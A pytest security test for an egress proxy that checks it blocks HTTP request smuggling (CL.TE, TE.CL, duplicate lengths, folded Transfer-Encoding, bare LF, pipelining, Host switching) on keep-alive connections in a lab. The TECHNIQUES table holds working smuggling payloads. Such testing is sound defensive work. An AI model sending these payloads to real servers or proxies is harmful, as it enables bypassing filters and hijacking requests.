"""Request smuggling on a keep-alive plain-HTTP connection to an allowed site (issue 15: the front's fast path,
`egress.proxy.httpfast`, must judge every request on a connection, and never frame one differently from the
server behind it).

The attacker runs the lenient site of tests/proxy/mitm/site.py on allowed.lab's own address (plain HTTP on
8080; tests/security/policies/mitm.yaml allows it), which reads CL and TE bodies, unfolds nothing it need not and
logs every request and body it takes. Each technique hides a second request carrying mining JSON (or a Host the
address is not bound to) behind a first one: two framings at once (CL+TE, TE+CL, two lengths, a folded
``Transfer-Encoding``), bare LF line ends, pipelining, or simply a second request on a kept-alive connection.
Ground truth: the site's log (no piece with the secret, no request for another host) and the internet-side
capture (the secret never crosses in clear).
"""

from __future__ import annotations

import sys
import time

import pytest

from egress.lab import certs
from egress.lab.topology import server
from tests.proxy.mitm.site import parse_log
from tests.security.conftest import LabFactory
from tests.security.harness import POLICIES, Attacker, SecurityLab, report

pytestmark = pytest.mark.security

ALLOWED = server("allowed").v4
PLAIN = 8080
SECRET = b'{"id":2,"method":"mining.submit","params":["worker","job1","00000000","5f5e1000","a1b2c3d4"]}\n'
MARKER = b"mining.submit"
BENIGN = b'{"query":"weather","city":"Lyon"}'
OTHER_HOST = b"blocked.lab"

CLIENT = r"""
import socket, sys
from tests.security.mitm_client import resolve
parts = [bytes.fromhex(part) for part in sys.argv[2].split(",")]
sock = socket.create_connection((resolve("allowed.lab"), int(sys.argv[1])), timeout=10)
for part in parts:
    sock.sendall(part)
    sock.settimeout(2)  # pacing only: what the gateway answers to this part, then the next part
    got = b""
    try:
        while chunk := sock.recv(65536):
            got += chunk
    except OSError:
        pass
    print("answer", got.hex(), flush=True)
"""


def _post(body: bytes, *fields: str, host: str = "allowed.lab", eol: bytes = b"\r\n") -> bytes:
    lines = [b"POST /api HTTP/1.1", f"Host: {host}".encode(), *(f.encode() for f in fields)]
    return eol.join(lines) + eol + eol + body


def _framed(body: bytes, host: str = "allowed.lab") -> bytes:
    return _post(body, f"Content-Length: {len(body)}", host=host)


SMUGGLED = _framed(SECRET)
ZERO_CHUNK = b"0\r\n\r\n"
HIDING = ZERO_CHUNK + SMUGGLED
"""A body that is one empty chunk and a request to a server reading TE, all body to one reading CL."""

TECHNIQUES: dict[str, list[bytes]] = {
    # The front reads CL (the whole rest as the body), a TE server reads one empty chunk, then SMUGGLED.
    "cl-te": [_post(HIDING, f"Content-Length: {len(HIDING)}", "Transfer-Encoding: chunked")],
    # The front reads TE, a CL server 4 bytes, then the chunk's data as a request.
    "te-cl": [
        _post(
            b"%x\r\n" % len(SMUGGLED) + SMUGGLED + b"\r\n" + ZERO_CHUNK,
            "Transfer-Encoding: chunked",
            "Content-Length: 4",
        )
    ],
    "duplicate-cl": [_post(SMUGGLED, "Content-Length: 0", f"Content-Length: {len(SMUGGLED)}")],
    "obs-fold-te": [
        _post(HIDING, f"Content-Length: {len(HIDING)}", "Transfer-Encoding:\r\n chunked")
    ],
    "bare-lf": [_post(SECRET, f"Content-Length: {len(SECRET)}", eol=b"\n")],
    "bare-lf-second": [_framed(BENIGN), _post(SECRET, f"Content-Length: {len(SECRET)}", eol=b"\n")],
    "pipelined": [_framed(BENIGN) + SMUGGLED + _framed(BENIGN)],
    "keep-alive-second": [_framed(BENIGN), SMUGGLED],
    "keep-alive-tenth": [_framed(BENIGN)] * 9 + [SMUGGLED],
    "keep-alive-host-switch": [_framed(BENIGN), _framed(BENIGN, host="blocked.lab")],
}  # fmt: skip


@pytest.fixture(scope="module")
def lab(lab_factory: LabFactory) -> SecurityLab:
    return lab_factory(POLICIES / "mitm.yaml")


@pytest.fixture(scope="module")
def site(lab: SecurityLab) -> Attacker:
    chain, key = certs.ensure(lab.lab.state_dir).servers["allowed"]
    argv = [sys.executable, "-m", "tests.proxy.mitm.site", ALLOWED, str(PLAIN), "8443", str(chain), str(key)]
    running = lab.attacker("smuggling-site", argv)
    running.wait_for("listening")
    return running


def _play(lab: SecurityLab, site: Attacker, technique: str) -> tuple[int, bool, str, list[bytes]]:
    before = len(parse_log(site.log()))
    since = time.time()
    with lab.capture(f"smuggling-{technique}") as capture:
        done = lab.sandbox_python(CLIENT, str(PLAIN), ",".join(p.hex() for p in TECHNIQUES[technique]), timeout=60)
    answers = [bytes.fromhex(line[7:].strip()) for line in done.stdout.splitlines() if line.startswith("answer ")]
    received = parse_log(site.log())[before:]
    evil = [data for kind, data in received if kind != "wire" and (MARKER in data or OTHER_HOST in data)]
    crossed = capture.result
    assert crossed is not None
    leaked = max(sum(len(data) for data in evil), len(SECRET) if crossed.contains(MARKER, ALLOWED) else 0)
    reason = lab.reason_of(since, lambda r: r.dport == PLAIN and r.action == "block", timeout=10)
    return leaked, bool(evil), reason, answers


def test_control_benign_requests_on_one_connection_reach_the_site(lab: SecurityLab, site: Attacker) -> None:
    before = len(parse_log(site.log()))
    with lab.capture("smuggling-control") as capture:
        done = lab.sandbox_python(CLIENT, str(PLAIN), ",".join([_framed(BENIGN).hex()] * 3), timeout=60)
    answers = [line for line in done.stdout.splitlines() if line.startswith("answer ")]
    bodies = [data for kind, data in parse_log(site.log())[before:] if kind == "body" and data == BENIGN]
    crossed = capture.result
    assert crossed is not None
    sent = crossed.bytes_to(ALLOWED, PLAIN, "tcp")
    report("control/http-keep-alive", "control", sent, len(bodies) == 3, None, "allowed, not a leak")
    assert len(answers) == 3 and all(bytes.fromhex(a[7:]).startswith(b"HTTP/1.1 200") for a in answers), answers
    assert len(bodies) == 3, bodies


@pytest.mark.parametrize("technique", sorted(TECHNIQUES))
def test_request_smuggling_on_a_kept_alive_connection(lab: SecurityLab, site: Attacker, technique: str) -> None:
    leaked, goal, reason, answers = _play(lab, site, technique)
    cls = "tunnel" if technique.endswith("host-switch") else "mining"
    report(f"http/smuggling-{technique}", cls, leaked, goal, reason)
    assert leaked == 0 and not goal, (technique, answers)
    assert answers, technique  # the client ran
